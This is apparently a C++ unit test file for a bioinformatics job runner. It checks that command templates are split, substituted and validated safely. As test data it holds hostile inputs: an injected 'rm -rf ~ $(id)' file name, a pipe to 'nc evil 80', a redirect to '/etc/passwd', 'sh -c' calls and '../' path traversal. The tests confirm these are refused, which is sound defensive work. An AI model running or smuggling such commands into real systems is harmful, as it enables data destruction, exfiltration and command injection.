// Unit tests of command-line templates (src/jobs/command.*): words, placeholders inside one
// argument, refused shell syntax, the vidjil-algo command line of model.md §3.4 and the merged
// file name of a pre-process (§3.3).
#include <cppunit/extensions/HelperMacros.h>

#include "config.h"
#include "jobs/command.h"

using namespace vidjil;
using jobs::Template;
using Words = std::vector<std::string>;

class AnalysesCommandTest : public CppUnit::TestFixture {
    CPPUNIT_TEST_SUITE(AnalysesCommandTest);
    CPPUNIT_TEST(words);
    CPPUNIT_TEST(placeholders_stay_in_their_argument);
    CPPUNIT_TEST(templates_are_checked);
    CPPUNIT_TEST(vidjil_command_line);
    CPPUNIT_TEST(other_programs_need_the_sysadmin);
    CPPUNIT_TEST(pre_process_command_line);
    CPPUNIT_TEST(merged_names);
    CPPUNIT_TEST_SUITE_END();

public:
    void words() {
        CPPUNIT_ASSERT(jobs::split_words("  -c clones\t-z 100 ") == (Words{"-c", "clones", "-z", "100"}));
        CPPUNIT_ASSERT(jobs::split_words("-x 'a b' \"c'd\" e''f") == (Words{"-x", "a b", "c'd", "ef"}));
        CPPUNIT_ASSERT(jobs::split_words("").empty());
        CPPUNIT_ASSERT_THROW(jobs::split_words("-x 'open"), jobs::CommandError);
        CPPUNIT_ASSERT_THROW(jobs::split_words(std::string("a\0b", 3)), jobs::CommandError);
    }
    void placeholders_stay_in_their_argument() {
        // A file name with blanks, quotes and shell characters stays one argument, never parsed.
        std::string evil = "/data/x y; rm -rf ~ $(id) `id`.fa";
        Words out = jobs::substitute({"-i", "&file1&", "--out=&result&.gz"}, {{"file1", evil}, {"result", "/w/r"}});
        CPPUNIT_ASSERT(out == (Words{"-i", evil, "--out=/w/r.gz"}));
        CPPUNIT_ASSERT(jobs::substitute({"a&&b", "x & y"}, {}) == (Words{"a&&b", "x & y"}));
        CPPUNIT_ASSERT_THROW(jobs::substitute({"&file2&"}, {{"file1", "x"}}), jobs::CommandError);
    }
    void templates_are_checked() {
        CPPUNIT_ASSERT_EQUAL(std::string(), jobs::check_template("-c clones -g germline/homo-sapiens.g -2", Template::Config));
        CPPUNIT_ASSERT_EQUAL(std::string(), jobs::check_template("cat &file1& &file2& > &result&", Template::PreProcess));
        CPPUNIT_ASSERT(!jobs::check_template("-c clones | nc evil 80", Template::Config).empty());
        CPPUNIT_ASSERT(!jobs::check_template("-c clones ; rm x", Template::Config).empty());
        CPPUNIT_ASSERT(!jobs::check_template("-x $(id)", Template::Config).empty());
        CPPUNIT_ASSERT(!jobs::check_template("-o > /etc/passwd", Template::Config).empty());
        CPPUNIT_ASSERT(!jobs::check_template("cat &file1& > /tmp/x", Template::PreProcess).empty());
        CPPUNIT_ASSERT(!jobs::check_template("cat &file1& > &result& extra", Template::PreProcess).empty());
        CPPUNIT_ASSERT(!jobs::check_template("-i &file2&", Template::Config).empty());  // unknown here
        CPPUNIT_ASSERT(!jobs::check_template("", Template::PreProcess).empty());
    }
    void vidjil_command_line() {
        Config cfg = Config::from_text("VIDJIL_PROGRAM = /bin/true\nDIR_GERMLINE = /g/germline\n");
        jobs::Invocation inv = jobs::analysis_invocation(
            cfg, "vidjil", "-c clones -z 100 -g germline/homo-sapiens.g:IGH -e 1 ", "/w/out-000007", "000007",
            "/seq/s.fa", "");
        CPPUNIT_ASSERT(inv.argv == (Words{"/bin/true", "-o", "/w/out-000007", "-b", "000007", "-c", "clones", "-z", "100",
                                          "-g", "/g/germline/homo-sapiens.g:IGH", "-e", "1", "/seq/s.fa"}));
        CPPUNIT_ASSERT_EQUAL(std::string("/w/out-000007"), inv.cwd);
        inv = jobs::analysis_invocation(cfg, "vidjil", "-c clones", "/w", "000001", "/seq/s.fa", "ACGT");
        CPPUNIT_ASSERT(inv.argv == (Words{"/bin/true", "-o", "/w", "-b", "000001", "-c", "clones", "--out-clone-files",
                                          "--grep-reads", "ACGT", "/seq/s.fa"}));
        // The input can be placed explicitly.
        inv = jobs::analysis_invocation(cfg, "vidjil", "-i &file1& -g &germline&", "/w", "b", "/seq/s.fa", "");
        CPPUNIT_ASSERT(inv.argv == (Words{"/bin/true", "-o", "/w", "-b", "b", "-i", "/seq/s.fa", "-g", "/g/germline"}));
        // `next` needs its own installation.
        CPPUNIT_ASSERT_THROW(jobs::analysis_invocation(cfg, "vidjil", "-c clones next", "/w", "b", "/s", ""), jobs::CommandError);
        Config missing = Config::from_text("VIDJIL_PROGRAM = /nonexistent/vidjil-algo\n");
        CPPUNIT_ASSERT_THROW(jobs::analysis_invocation(missing, "vidjil", "", "/w", "b", "/s", ""), jobs::CommandError);
    }
    void other_programs_need_the_sysadmin() {
        Config cfg = Config::from_text("PROGRAM_MIXCR = /bin/true\n");
        CPPUNIT_ASSERT_EQUAL(std::string("/bin/true"), jobs::program_path(cfg, "mixcr", false));
        CPPUNIT_ASSERT_THROW(jobs::program_path(cfg, "igrec", false), jobs::CommandError);
        jobs::Invocation inv = jobs::analysis_invocation(cfg, "mixcr", "analyze &file1& &workdir&/&basename&", "/w", "b",
                                                         "/s.fa", "");
        CPPUNIT_ASSERT(inv.argv == (Words{"/bin/true", "analyze", "/s.fa", "/w/b"}));
    }
    void pre_process_command_line() {
        Config cfg = Config::from_text("DIR_PREPROCESS = /nonexistent\nPROGRAM_CAT = /bin/cat\nPROGRAM_SH = \n");
        jobs::Invocation inv = jobs::pre_process_invocation(
            cfg, "cat &file1& &file2& > &result&",
            {{"file1", "/s/r1.fq"}, {"file2", "/s/r2.fq"}, {"result", "/w/r.fq"}, {"workdir", "/w"}});
        CPPUNIT_ASSERT(inv.argv.size() == 3 && inv.argv[0].find("/cat") != std::string::npos);
        CPPUNIT_ASSERT(inv.argv[1] == "/s/r1.fq" && inv.argv[2] == "/s/r2.fq");
        CPPUNIT_ASSERT_EQUAL(std::string("/w/r.fq"), inv.stdout_path);
        CPPUNIT_ASSERT_EQUAL(std::string("/w"), inv.cwd);
        CPPUNIT_ASSERT_THROW(jobs::pre_process_invocation(cfg, "no-such-merger &file1&", {{"file1", "x"}, {"workdir", "/w"}}),
                             jobs::CommandError);
        CPPUNIT_ASSERT_THROW(jobs::pre_process_invocation(cfg, "relative/prog &file1&", {{"file1", "x"}, {"workdir", "/w"}}),
                             jobs::CommandError);
        // Issue 9: only programs declared in vidjil.conf (PROGRAM_<NAME>) run, whatever is installed.
        for (const char* cmd : {"sh -c 'id -u > /tmp/x'", "/bin/sh -c true", "/bin/cat &file1&", "&binaries&/cat &file1&"}) {
            CPPUNIT_ASSERT_THROW(jobs::pre_process_invocation(cfg, cmd, {{"file1", "x"}, {"workdir", "/w"}}), jobs::CommandError);
            std::string why = jobs::check_programs(cfg, cmd, jobs::Template::PreProcess);
            CPPUNIT_ASSERT_MESSAGE(why, why.find("allowed programs: cat") != std::string::npos);
        }
        CPPUNIT_ASSERT_EQUAL(std::string(""), jobs::check_programs(cfg, "cat &file1& &file2& > &result&", jobs::Template::PreProcess));
        CPPUNIT_ASSERT_EQUAL(std::string(""), jobs::check_programs(cfg, "-c clones", jobs::Template::Config, "vidjil"));
        CPPUNIT_ASSERT_EQUAL(std::string(""), jobs::check_programs(cfg, "", jobs::Template::Config, "none"));
        CPPUNIT_ASSERT(jobs::check_programs(cfg, "-x", jobs::Template::Config, "mixcr").find("PROGRAM_MIXCR") != std::string::npos);
    }
    void merged_names() {
        CPPUNIT_ASSERT_EQUAL(std::string("x_S1_R.fastq.gz"), jobs::merged_name("x_S1_R1.fastq.gz", "x_S1_R2.fastq.gz"));
        CPPUNIT_ASSERT_EQUAL(std::string("a_R_001.fastq"), jobs::merged_name("a_R1_001.fastq", "a_R2_001.fastq"));
        CPPUNIT_ASSERT_EQUAL(std::string("abc_xyz.fa"), jobs::merged_name("abc.fa", "xyz.fa"));
        CPPUNIT_ASSERT_EQUAL(std::string("same.fq"), jobs::merged_name("same.fq", "same.fq"));
        // Issue 9: the merged name (plus ".pre.log") must fit NAME_MAX.
        std::string long_merged = jobs::merged_name(std::string(250, 'a') + "_R1.fastq.gz", std::string(250, 'a') + "_R2.fastq.gz");
        CPPUNIT_ASSERT(long_merged.size() + 8 <= 255);
        CPPUNIT_ASSERT_EQUAL(std::string(".fastq.gz"), long_merged.substr(long_merged.size() - 9));
        // Names from the client never escape the work directory.
        std::string n = jobs::merged_name("../../etc/passwd", "../../etc/passwd");
        CPPUNIT_ASSERT(n.find('/') == std::string::npos && n.substr(0, 1) != ".");
        CPPUNIT_ASSERT_EQUAL(std::string("merged.fastq.gz"), jobs::merged_name("..", ".."));
    }
};

CPPUNIT_TEST_SUITE_REGISTRATION(AnalysesCommandTest);
